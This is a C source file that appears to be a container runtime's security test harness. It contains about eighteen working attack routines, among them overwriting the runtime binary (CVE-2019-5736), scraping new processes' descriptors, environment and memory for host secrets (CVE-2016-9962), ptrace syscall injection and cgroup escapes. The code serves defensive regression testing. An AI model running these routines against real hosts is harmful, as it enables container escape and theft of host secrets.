/* The attackers of integration/security: attacker WORD [ARGUMENT...]. Each word is one attack. It runs in a container as its
 * program, or beside the runtime on files that the runtime shares with a container. It prints what it has reached. The exit
 * status is 0 for a successful attack, 1 for a failed one, 2 for wrong arguments. Build: cc -static -O1 -Wall -Werror
 * -pthread -o attacker attacker.c */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/fuse.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct attack {
	const char *word;
	int (*run)(int argc, char **argv);
};

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* cgroup-write DIRECTORY OWN...: tries to change the directories below DIRECTORY: to move a process there, and to make a
 * directory. OWN are parts of the paths that the container may change. */
static char **own_parts;
static int written;

static int try_cgroup(const char *path, const struct stat *stat, int kind, struct FTW *at)
{
	(void)stat;
	(void)at;
	if (kind != FTW_D)
		return 0;
	for (char **own = own_parts; *own; own++)
		if (strstr(path, *own))
			return 0;
	char name[4096];
	snprintf(name, sizeof name, "%s/cgroup.procs", path);
	int fd = open(name, O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		printf("opened %s\n", name);
		close(fd);
		written++;
	}
	snprintf(name, sizeof name, "%s/made-by-the-attacker", path);
	if (!mkdir(name, 0755)) {
		printf("made %s\n", name);
		rmdir(name);
		written++;
	}
	return 0;
}

static int cgroup_write(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	own_parts = argv + 2;
	nftw(argv[1], try_cgroup, 16, FTW_PHYS);
	return written ? 0 : 1;
}

/* nest DIRECTORY DEPTH: makes a cgroup in DIRECTORY, one in that, and so on, deeper than a path can name, goes to the last, and
 * waits there. */
static int nest(int argc, char **argv)
{
	char name[201];
	memset(name, 'n', 200);
	name[200] = 0;
	if (argc < 3)
		return 2;
	if (chdir(argv[1]))
		return 1;
	for (int n = atoi(argv[2]); n > 0; n--)
		if (mkdir(name, 0755) || chdir(name))
			return 1;
	int fd = open("cgroup.procs", O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, "0", 1) != 1)
		return 1;
	puts("nested");
	fflush(stdout);
	for (;;)
		pause();
}

/* freezer DIRECTORY: DIRECTORY is a cgroup of version 1 or 2 with a freezer. Makes the cgroups `ice`, which it keeps frozen, and
 * `fire`, which it enters. Moves each process that appears in DIRECTORY to `ice`. */
static void put_into(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) < 0 && errno == ENODEV)
		exit(1);
	close(fd);
}

static int freezer(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	if (chdir(argv[1]) || mkdir("ice", 0755) || mkdir("fire", 0755))
		return 1;
	int old = !access("freezer.state", F_OK);
	put_into("fire/cgroup.procs", "0");
	for (;;) {
		put_into(old ? "ice/freezer.state" : "ice/cgroup.freeze", old ? "FROZEN" : "1");
		for (int round = 0; round < 100; round++) {
			FILE *list = fopen("cgroup.procs", "r");
			char pid[32];
			while (list && fgets(pid, sizeof pid, list))
				put_into("ice/cgroup.procs", pid);
			if (list)
				fclose(list);
		}
	}
}

/* exchange A B [C D]...: exchanges the names A and B, C and D, as fast as it can, until its standard input ends. */
static int exchange(int argc, char **argv)
{
	if (argc < 3 || argc % 2 == 0)
		return 2;
	unsigned long count = 0;
	struct pollfd input = { .fd = 0, .events = POLLIN };
	puts("ready");
	fflush(stdout);
	do {
		for (int round = 0; round < 64; round++)
			for (int n = 1; n < argc; n += 2)
				if (!syscall(SYS_renameat2, AT_FDCWD, argv[n], AT_FDCWD, argv[n + 1], RENAME_EXCHANGE))
					count++;
	} while (poll(&input, 1, 0) == 0);
	printf("%lu\n", count);
	return count > 0 ? 0 : 1;
}

/* naive ROUNDS DIRECTORY OUTSIDE: a runtime with a bug. It checks that DIRECTORY is a directory, and then uses it by its
 * path. The attack has succeeded if OUTSIDE/made exists. */
static int naive(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	char inside[4096], outside[4096];
	snprintf(inside, sizeof inside, "%s/made", argv[2]);
	snprintf(outside, sizeof outside, "%s/made", argv[3]);
	for (long round = atol(argv[1]); round > 0; round--) {
		struct stat stat;
		if (lstat(argv[2], &stat) || !S_ISDIR(stat.st_mode))
			continue;
		mkdir(inside, 0755);
		if (!lstat(outside, &stat)) {
			rmdir(outside);
			puts("outside");
			return 0;
		}
		rmdir(inside);
	}
	return 1;
}

/* weak-exec PID PROGRAM...: a runtime with a bug. It enters the container of PID with its own binary, and waits there. */
static int weak_exec(int argc, char **argv)
{
	static const char *const kinds[] = { "pid", "mnt" };
	if (argc < 3)
		return 2;
	int fds[2];
	for (int n = 0; n < 2; n++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/%s/ns/%s", argv[1], kinds[n]);
		fds[n] = open(path, O_RDONLY | O_CLOEXEC);
	}
	for (int n = 0; n < 2; n++)
		if (setns(fds[n], 0)) {
			perror("setns");
			return 2;
		}
	pid_t child = fork();
	if (!child) {
		usleep(100000);
		execv(argv[2], argv + 2);
		_exit(127);
	}
	int status;
	waitpid(child, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 2;
}

/* write-exe UNTIL NAME: keeps a descriptor of the program of every process that it sees, and opens it for writing as soon as
 * no process runs it any more. It continues until the file UNTIL exists. It writes to a file with the name NAME. For other
 * files it only prints that it could write. */
static int held[256];
static char names[256][64];
static int helds;

static void hold(const char *pid, const struct stat *own)
{
	char path[300];
	struct stat stat, other;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &stat) || (stat.st_dev == own->st_dev && stat.st_ino == own->st_ino))
		goto no;
	for (int n = 0; n < helds; n++)
		if (!fstat(held[n], &other) && other.st_dev == stat.st_dev && other.st_ino == stat.st_ino)
			goto no;
	if (helds == 256)
		goto no;
	char target[4096] = "";
	if (readlink(path, target, sizeof target - 1) < 0)
		goto no;
	const char *name = strrchr(target, '/');
	snprintf(names[helds], sizeof names[helds], "%.63s", name ? name + 1 : target);
	printf("holds %s\n", target);
	fflush(stdout);
	held[helds++] = fd;
	return;
no:
	if (fd >= 0)
		close(fd);
}

static int write_exe(int argc, char **argv)
{
	struct stat own, stat;
	int through = 0;
	if (argc != 3)
		return 2;
	int self = open("/proc/self/exe", O_PATH | O_CLOEXEC);
	fstat(self, &own);
	puts("ready");
	fflush(stdout);
	while (lstat(argv[1], &stat)) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc && (entry = readdir(proc));)
			if (isdigit((unsigned char)entry->d_name[0]))
				hold(entry->d_name, &own);
		if (proc)
			closedir(proc);
		for (int n = 0; n < helds; n++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[n]);
			int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (held[n] < 0 || fd < 0)
				continue;
			int named = !strcmp(names[n], argv[2]);
			if (named && write(fd, "attacked", 8) == 8)
				through = 1;
			printf("%s %s\n", named ? "wrote" : "could write", names[n]);
			names[n][0] = 0;
			close(held[n]);
			held[n] = -1;
			close(fd);
		}
	}
	return through ? 0 : 1;
}

/* Opens the file of a descriptor for writing. */
static int reopen(int fd)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, O_WRONLY | O_CLOEXEC);
}

static int unseal_mount(int fd)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable));
}

/* CVE-2019-5736: unseal FILE: makes the mount of FILE writable from a user namespace of our own, and opens it for writing. */
static int unseal(int argc, char **argv)
{
	int fd = argc > 1 ? open(argv[1], O_PATH | O_CLOEXEC) : -1;
	if (fd < 0 || unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return 2;
	int unsealed = unseal_mount(fd);
	printf("mount_setattr: %s\n", unsealed ? strerror(errno) : "done");
	int opened = reopen(fd);
	printf("open: %s\n", opened < 0 ? strerror(errno) : "done");
	return unsealed == 0 || opened >= 0 ? 0 : 1;
}

/* The same with every new process, from its start on, for SECONDS. A child process unseals: it waits in a user namespace, and
 * shares our descriptors. We open the files, and keep the capability to read files of other processes. */
static int unseal_next(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	volatile int *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	shared[0] = shared[1] = shared[2] = -1;
	long helper = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (helper == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
			_exit(2);
		shared[2] = 0;
		for (;;) {
			int fd = shared[0];
			if (fd < 0)
				continue;
			shared[1] = unseal_mount(fd) ? errno : 0;
			shared[0] = -1;
		}
	}
	while (shared[2] < 0)
		if (waitpid(helper, NULL, WNOHANG) == helper)
			return 2;
	struct stat own, other;
	stat("/proc/self/exe", &own);
	int seen = 0, got = 0;
	alarm(atoi(argv[1]) + 10);
	puts("ready");
	fflush(stdout);
	for (time_t end = time(NULL) + atoi(argv[1]); time(NULL) < end && !got;) {
		for (int pid = getpid() + 2; pid < getpid() + 400 && !got; pid++) {
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (!fstat(fd, &other) && (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) {
				seen++;
				shared[0] = fd;
				while (shared[0] >= 0)
					;
				got = shared[1] == 0;
			}
			close(fd);
		}
	}
	kill(helper, SIGKILL);
	printf("seen %d, %s\n", seen, got ? "unsealed" : "not unsealed");
	return got ? 0 : 1;
}

/* True when `mark`, a path of the host without its leading slash, can be reached from the directory or from one above it. */
static int reaches(int directory, const char *mark)
{
	char path[4352];
	for (int up = 0; up < 8; up++) {
		int at = 0;
		for (int n = 0; n < up; n++)
			at += sprintf(path + at, "../");
		snprintf(path + at, sizeof path - at, "%s", mark);
		if (!faccessat(directory, path, F_OK, AT_SYMLINK_NOFOLLOW))
			return 1;
	}
	return 0;
}

/* True when the file of process `pid` can be read and contains `secret`. */
static int holds(int pid, const char *name, const char *secret)
{
	static char text[1 << 20];
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t length = read(fd, text, sizeof text);
	close(fd);
	return length > 0 && memmem(text, length, secret, strlen(secret));
}

/* True when a writable mapping of process `pid` contains `secret`. */
static int remembers(int pid, const char *secret)
{
	static char text[1 << 20];
	char path[64], line[512];
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int mem = open(path, O_RDONLY | O_CLOEXEC), found = 0;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = mem < 0 ? NULL : fopen(path, "re");
	while (maps && !found && fgets(line, sizeof line, maps)) {
		unsigned long begin, end;
		char access[5];
		if (sscanf(line, "%lx-%lx %4s", &begin, &end, access) != 3 || access[1] != 'w')
			continue;
		size_t size = end - begin < sizeof text ? end - begin : sizeof text;
		/* the used part of a stack is its end */
		ssize_t length = pread(mem, text, size, end - size);
		found = length > 0 && memmem(text, length, secret, strlen(secret));
	}
	if (maps)
		fclose(maps);
	if (mem >= 0)
		close(mem);
	return found;
}

/* Writes each finding about a process once. */
static void got(FILE *out, int pid, const char *what, const char *more)
{
	static char last[64][512];
	static int count;
	char line[512];
	snprintf(line, sizeof line, "%s %s", what, more);
	for (int n = 0; n < count && n < 64; n++)
		if (!strcmp(last[n], line))
			return;
	if (count < 64)
		strcpy(last[count++], line);
	fprintf(out, "%d: %s\n", pid, line);
	fflush(out);
}

static int look_at_descriptors(FILE *out, int pid, const char *mark)
{
	char path[64], to[256];
	int through = 0;
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *directory = opendir(path);
	for (struct dirent *entry; directory && (entry = readdir(directory));) {
		if (atoi(entry->d_name) < 3)
			continue;
		ssize_t length = readlinkat(dirfd(directory), entry->d_name, to, sizeof to - 1);
		if (length < 0)
			continue;
		to[length] = 0;
		int namespace = strstr(to, ":[") && strncmp(to, "socket:", 7) && strncmp(to, "pipe:", 5) &&
				strncmp(to, "anon_inode:", 11);
		int fd = openat(dirfd(directory), entry->d_name, O_PATH | O_CLOEXEC);
		/* containerd's shim waits by these, and no program of ours has them */
		int waits = strstr(to, "[pidfd]") || strstr(to, "[eventpoll]") || strstr(to, "[signalfd]");
		if (namespace || waits || (fd >= 0 && reaches(fd, mark))) {
			through = 1;
			got(out, pid, "fd", to);
		}
		if (fd >= 0)
			close(fd);
	}
	if (directory)
		closedir(directory);
	return through;
}

/* A file for the findings. Its first line tells the test that the attacker is ready. */
static FILE *looking(const char *path)
{
	FILE *out = fopen(path, "we");
	if (out) {
		fputs("looking\n", out);
		fflush(out);
	}
	return out;
}

/* True until the file `stop` exists. It is checked from time to time. */
static int go_on(unsigned long turn, const char *stop)
{
	return turn % 4096 || access(stop, F_OK);
}

/* The last line: whether the attack has succeeded. It is also the exit status. */
static int found(FILE *out, int through)
{
	fputs(through ? "through\n" : "nothing\n", out);
	fclose(out);
	return !through;
}

/* CVE-2016-9962: joiner FOUND STOP MARK SECRET: reads every new process in this pid namespace, from its first moment on.
 * The process's root directory, working directory or a descriptor may lead to the host's file MARK. Its command line may be
 * the runtime's. Its environment or memory may contain SECRET, which is in the runtime's environment. The argument is
 * SECRET backwards. The findings go to FOUND, until the file STOP exists. */
static int joiner(int argc, char **argv)
{
	if (argc != 5)
		return 2;
	FILE *out = looking(argv[1]);
	const char *mark = argv[3] + (argv[3][0] == '/');
	/* backwards: otherwise config.json and the memory of every new process would contain it */
	char secret[64] = "";
	for (size_t n = 0, length = strlen(argv[4]); n < length && n < 63; n++)
		secret[n] = argv[4][length - 1 - n];
	int through = 0, last = getpid();
	if (!out)
		return 2;
	for (unsigned long turn = 0; go_on(turn, argv[2]); turn++) {
		int seen = 0;
		for (int pid = last + 1; pid <= last + 32 && !seen; pid++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/%d", pid);
			int here = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
			if (here < 0)
				continue;
			seen = 1;
			int looks = 0;
			/* while the process exists */
			for (struct stat st; !fstatat(here, "stat", &st, 0) && looks < 3000; looks++) {
				const char *links[] = {"root", "cwd"};
				for (int n = 0; n < 2; n++) {
					int fd = openat(here, links[n], O_PATH | O_CLOEXEC);
					if (fd < 0)
						continue;
					if (reaches(fd, mark)) {
						through = 1;
						got(out, pid, links[n], "leads to the host");
					}
					close(fd);
				}
				through |= look_at_descriptors(out, pid, mark);
				if (holds(pid, "environ", secret)) {
					through = 1;
					got(out, pid, "environ", "holds the secret");
				}
				/* every call of the runtime in the tests has the first option, and containerd's shim the second */
				if (holds(pid, "cmdline", "--root") || holds(pid, "cmdline", "-socket")) {
					through = 1;
					got(out, pid, "cmdline", "is the runtime's");
				}
				if (remembers(pid, secret)) {
					through = 1;
					got(out, pid, "memory", "holds the secret");
				}
			}
			fprintf(out, "seen %d\n", pid);
			fflush(out);
			close(here);
			last = pid;
		}
	}
	return found(out, through);
}

/* The capability sets (permitted, effective, bounding) and the user of a process, from /proc/PID/status. */
static int rights(int pid, unsigned long long sets[3], unsigned *uid)
{
	static const char *const names[] = { "CapPrm:", "CapEff:", "CapBnd:" };
	char path[64], line[256];
	int found = 0;
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *status = fopen(path, "re");
	while (status && fgets(line, sizeof line, status)) {
		found += sscanf(line, "Uid: %u", uid) == 1;
		for (int n = 0; n < 3; n++)
			if (!strncmp(line, names[n], 7))
				found += sscanf(line + 7, "%llx", &sets[n]) == 1;
	}
	if (status)
		fclose(status);
	return found == 4;
}

/* True for a process in a user namespace without maps, with an empty root directory, and a user other than root: its rights
 * there are of no use. */
static int has_nothing(int pid, unsigned uid)
{
	char path[64], line[64];
	int mapped = 1, entries = 0;
	snprintf(path, sizeof path, "/proc/%d/uid_map", pid);
	FILE *map = fopen(path, "re");
	if (map) {
		mapped = fgets(line, sizeof line, map) != NULL;
		fclose(map);
	}
	snprintf(path, sizeof path, "/proc/%d/root", pid);
	DIR *root = opendir(path);
	while (root && readdir(root))
		entries++;
	if (root)
		closedir(root);
	return uid && !mapped && entries == 2;
}

/* seize FOUND STOP PROGRAM: traces every new process in this pid namespace, from its first moment on, and reads its rights.
 * The attack has succeeded if the process has a capability that we cannot have, or is root and we are not. It writes a line
 * for each process that it has caught before the exec of PROGRAM, until the file STOP exists. */
static int seize(int argc, char **argv)
{
	unsigned long long own[3], its[3];
	unsigned uid, own_uid;
	if (argc != 4 || !rights(getpid(), own, &own_uid))
		return 2;
	FILE *out = looking(argv[1]);
	int through = 0, last = getpid();
	if (!out)
		return 2;
	for (unsigned long turn = 0; go_on(turn, argv[2]); turn++) {
		for (int pid = last + 1; pid <= last + 8; pid++) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0))
				continue;
			char path[64], name[32] = "";
			int known = 0, hollow = 0;
			if (!ptrace(PTRACE_INTERRUPT, pid, 0, 0) && waitpid(pid, NULL, __WALL) == pid) {
				known = rights(pid, its, &uid);
				hollow = known && has_nothing(pid, uid);
				snprintf(path, sizeof path, "/proc/%d/comm", pid);
				FILE *comm = fopen(path, "re");
				if (comm && fgets(name, sizeof name, comm))
					name[strcspn(name, "\n")] = 0;
				if (comm)
					fclose(comm);
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
			if (known && strcmp(name, argv[3])) {
				int more = ((its[0] | its[1] | its[2]) & ~own[2]) || (!uid && own_uid);
				more = more && !hollow;
				through |= more;
				fprintf(out, "%s %s%s uid %u permitted %llx effective %llx bounding %llx\n",
					more ? "gained" : "caught", name, hollow ? " (with nothing)" : "", uid, its[0], its[1], its[2]);
				fflush(out);
			}
			last = pid;
			break;
		}
	}
	return found(out, through);
}

#ifdef __x86_64__
/* Writes `size` bytes (a multiple of 8) into the memory of a traced process. */
static void poke(int pid, unsigned long at, const void *bytes, size_t size)
{
	for (size_t n = 0; n < size; n += 8) {
		long word;
		memcpy(&word, (const char *)bytes + n, 8);
		ptrace(PTRACE_POKEDATA, pid, at + n, word);
	}
}

/* Writes `number` to offsets 0 and 4 of all memory that the process shares with others. */
static void poke_shared(int pid, unsigned number)
{
	char path[64], line[512], rights[8];
	unsigned long low, high;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "re");
	while (maps && fgets(line, sizeof line, maps))
		if (sscanf(line, "%lx-%lx %7s", &low, &high, rights) == 3 && !strcmp(rights, "rw-s")) {
			unsigned both[2] = { number, number };
			poke(pid, low, both, sizeof both);
		}
	if (maps)
		fclose(maps);
}

/* The size of a packet of init, and the first byte of "ready" (wire.rs). */
enum { PACKET = 256, READY = 3 };

/* Fork, with the pid written to the parent (CLONE_PARENT_SETTID). */
enum { FORKS = 0x00100000 | SIGCHLD };

/* At a call that begins: lies as `kind` says. Returns true when it has. */
static int lie(int pid, struct user_regs_struct *call, const char *kind, const char *what)
{
	if (!strcmp(kind, "fs") && call->orig_rax == SYS_fsopen) {
		unsigned long at = (call->rsp - 1024) & ~15ul;
		char name[16] = "";
		strncpy(name, what, sizeof name - 1);
		poke(pid, at, name, sizeof name);
		call->rdi = at;
		ptrace(PTRACE_SETREGS, pid, 0, call);
		return 1;
	}
	unsigned long long sets[3];
	unsigned uid;
	if (!strcmp(kind, "fork") && call->orig_rax == SYS_prctl && call->rdi == PR_SET_PDEATHSIG && rights(pid, sets, &uid) && uid) {
		call->orig_rax = SYS_clone;
		call->rdi = FORKS;
		call->rsi = call->rdx = call->r10 = call->r8 = 0;
		ptrace(PTRACE_SETREGS, pid, 0, call);
		return 1;
	}
	if (call->orig_rax != SYS_write || call->rdx != PACKET)
		return 0;
	long packet = ptrace(PTRACE_PEEKDATA, pid, call->rsi, 0);
	if ((packet & 255) != READY)
		return 0;
	if (!strcmp(kind, "hold"))
		/* the copy stays open */
		return syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, pid, 0), (int)call->rdi, 0) >= 0;
	if (!strcmp(kind, "keep")) {
		kill(pid, SIGKILL);
		return 2;
	}
	if (!strcmp(kind, "pid")) {
		poke_shared(pid, (unsigned)atoi(what));
		return 1;
	}
	if (!strcmp(kind, "ask")) {
		/* a request: 1, its code, its number */
		unsigned char words[8] = { 1, (unsigned char)atoi(what) };
		poke(pid, call->rsi, words, sizeof words);
		return 1;
	}
	return 0;
}

/* impostor FOUND STOP KIND WHAT: traces new processes in this pid namespace and lies in their name to the runtime.
 * pid PID: writes PID into shared memory, before "ready". ask CODE: sends request CODE instead of "ready". fs NAME: gives
 * fsopen(2) another name. fork: makes a process that is not root fork. keep: kills the process, and never reads its end. hold:
 * keeps its socket open. Writes the line `lied` each time, until the file STOP exists. */
static int impostor(int argc, char **argv)
{
	if (argc != 5)
		return 2;
	FILE *out = looking(argv[1]);
	int last = getpid();
	if (!out)
		return 2;
	for (unsigned long turn = 0; go_on(turn, argv[2]); turn++) {
		for (int pid = last + 1; pid <= last + 8; pid++) {
			if (ptrace(PTRACE_SEIZE, pid, 0, (void *)(long)PTRACE_O_TRACESYSGOOD))
				continue;
			last = pid;
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			int status, lied = 0;
			for (int calls = 0; !lied && calls < 800 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status); calls++) {
				struct user_regs_struct call;
				int signal = WSTOPSIG(status) & 0x7f;
				if (WSTOPSIG(status) == (SIGTRAP | 0x80)) {
					signal = 0;
					if (!ptrace(PTRACE_GETREGS, pid, 0, &call) && (long long)call.rax == -ENOSYS)
						lied = lie(pid, &call, argv[3], argv[4]);
				} else if (status >> 16 == PTRACE_EVENT_STOP || signal == SIGTRAP) {
					signal = 0;
				}
				if (lied < 2)
					ptrace(lied ? PTRACE_DETACH : PTRACE_SYSCALL, pid, 0, (void *)(long)signal);
			}
			if (lied) {
				fprintf(out, "lied in the name of %d\n", pid);
				fflush(out);
			} else {
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
			break;
		}
	}
	return found(out, 0);
}
#else
static int impostor(int argc, char **argv)
{
	(void)argc, (void)argv;
	return 3;
}
#endif

/* keyring-made-first NAME: makes a session keyring that all users may search, prints its serial number, and keeps it. */
static int keyring_made_first(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	long ring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, argv[1]);
	if (ring < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, ring, 0x3f3f3f3f) < 0) {
		perror("keyctl");
		return 1;
	}
	printf("%ld\n", ring);
	fflush(stdout);
	for (;;)
		pause();
}

/* keyring-of-mine: prints the serial number of our session keyring. */
static int keyring_of_mine(int argc, char **argv)
{
	(void)argc, (void)argv;
	printf("%ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
	return 0;
}

/* last-thread FILE: the first thread ends, and another one goes on: it counts in FILE. */
static void *counts(void *file)
{
	for (int n = 0;; n++) {
		FILE *out = fopen(file, "we");
		if (out) {
			fprintf(out, "%d\n", n);
			fclose(out);
		}
		usleep(10000);
	}
	return NULL;
}

static int last_thread(int argc, char **argv)
{
	pthread_t thread;
	if (argc < 2 || pthread_create(&thread, NULL, counts, argv[1]))
		return 2;
	pthread_exit(NULL);
}

/* mute PLACE: mounts a FUSE file system at PLACE. It says to the processes of the container that there is no file, and never
 * answers the others. */
static int mute(int argc, char **argv)
{
	static char in[1 << 18];
	char options[128];
	if (argc < 2)
		return 2;
	int fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fuse);
	if (fuse < 0 || mount("mute", argv[1], "fuse.mute", 0, options)) {
		perror("mute");
		return 1;
	}
	puts("ready");
	fflush(stdout);
	for (;;) {
		struct fuse_in_header *asked = (void *)in;
		if (read(fuse, in, sizeof in) < (ssize_t)sizeof *asked)
			return 1;
		struct {
			struct fuse_out_header head;
			struct fuse_init_out init;
		} answer = { .head = { .len = sizeof answer.head, .unique = asked->unique } };
		if (asked->opcode == FUSE_INIT) {
			answer.head.len = sizeof answer;
			answer.init = (struct fuse_init_out){ .major = 7, .minor = 31, .max_write = 4096 };
		} else if (asked->pid) {
			answer.head.error = -ENOENT;
		} else {
			continue;
		}
		if (write(fuse, &answer, answer.head.len) < 0)
			return 1;
	}
}

/* stopper [SIGNAL]: stops each process that is younger, or sends it this signal, before it is a program. */
static int stopper(int argc, char **argv)
{
	int number = argc > 1 ? atoi(argv[1]) : SIGSTOP;
	if (number < 1)
		return 2;
	for (;;)
		for (int pid = getpid() + 1; pid < getpid() + 200; pid++)
			kill(pid, number);
}

/* own-mounts FROM ONTO, own-mounts DIRECTORY: makes a user namespace and a mount namespace of its own, which takes no rights. There it
 * binds FROM onto ONTO and waits, or it makes DIRECTORY writable until it has made a file in it. The kernel uses the number of the
 * mount namespace that it has left again, so it takes new ones until it has this number. Without arguments, it is no attack: with
 * CAP_SYS_ADMIN it makes a mount namespace, and one with its word as the host name. */
static int put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	int failed = fd < 0 || write(fd, text, strlen(text)) < 0;
	close(fd);
	return failed;
}

static int own_mounts(int argc, char **argv)
{
	char map[64], file[4096];
	struct stat first, now;
	snprintf(map, sizeof map, "0 %u 1", getuid());
	if (argc < 2) {
		if (unshare(CLONE_NEWNS | CLONE_NEWUTS) || sethostname(argv[0], strlen(argv[0])))
			return 1;
		for (;;)
			pause();
	}
	if (stat("/proc/self/ns/mnt", &first) || unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return 1;
	for (int n = 0; n < 2000 && !stat("/proc/self/ns/mnt", &now) && now.st_ino != first.st_ino; n++)
		if (unshare(CLONE_NEWNS))
			return 1;
	if (put("/proc/self/setgroups", "deny") || put("/proc/self/uid_map", map))
		return 1;
	if (argc > 2) {
		if (mount(argv[1], argv[2], NULL, MS_BIND, NULL))
			return 1;
		for (;;)
			pause();
	}
	snprintf(file, sizeof file, "%s/written", argv[1]);
	while (open(file, O_CREAT | O_WRONLY | O_CLOEXEC, 0644) < 0) {
		mount(NULL, argv[1], NULL, MS_REMOUNT | MS_BIND, NULL);
		usleep(10000);
	}
	for (;;)
		pause();
}

/* One line for each attack, sorted by word. */
static const struct attack attacks[] = {
	{ "cgroup-write", cgroup_write },
	{ "exchange", exchange },
	{ "freezer", freezer },
	{ "impostor", impostor },
	{ "joiner", joiner },
	{ "keyring-made-first", keyring_made_first },
	{ "keyring-of-mine", keyring_of_mine },
	{ "last-thread", last_thread },
	{ "mute", mute },
	{ "naive", naive },
	{ "nest", nest },
	{ "own-mounts", own_mounts },
	{ "seize", seize },
	{ "stopper", stopper },
	{ "unseal", unseal },
	{ "unseal-next", unseal_next },
	{ "weak-exec", weak_exec },
	{ "write-exe", write_exe },
	{ NULL, NULL },
};

int main(int argc, char **argv)
{
	for (const struct attack *a = attacks; argc > 1 && a->word; a++)
		if (!strcmp(a->word, argv[1]))
			return a->run(argc - 1, argv + 1);
	fputs("usage: attacker WORD [ARGUMENT...], with one of the words:\n", stderr);
	for (const struct attack *a = attacks; a->word; a++)
		fprintf(stderr, "  %s\n", a->word);
	return 2;
}
